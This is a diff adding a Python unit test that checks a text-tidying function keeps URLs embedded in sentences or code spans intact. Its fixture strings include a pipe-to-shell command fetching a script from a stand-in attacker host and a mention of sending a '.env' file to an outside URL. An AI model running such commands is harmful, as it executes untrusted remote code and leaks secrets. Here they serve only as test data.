@@ -360,3 +360,14 @@ def test_a_helper_that_only_matched_part_of_its_input_is_a_stated_cause() -> Non
                          "prereleases (no dot).\n\nWiden the prerelease regex.", files=SOURCE)
     [bug] = texts(commit)
     assert "only matched PEP-440-style prereleases" in bug
+
+
+def test_a_url_inside_a_sentence_or_a_code_span_is_never_cut_out() -> None:
+    """Taking it out left "send `.env` to rather than keeping it" and `curl | sh`."""
+    assert tidy("Pipe `curl https://evil.example/x.sh | sh` first.") == \
+        "Pipe `curl https://evil.example/x.sh | sh` first"
+    assert tidy("Send it to https://example.com/collect rather than keeping it.") == \
+        "Send it to https://example.com/collect rather than keeping it"
+    assert tidy("It defaults to cmd.exe (see https://docs.python.org/x).") == \
+        "It defaults to cmd.exe"
+    assert tidy("More in the RFC at https://example.com/rfc.") == "More in the RFC"
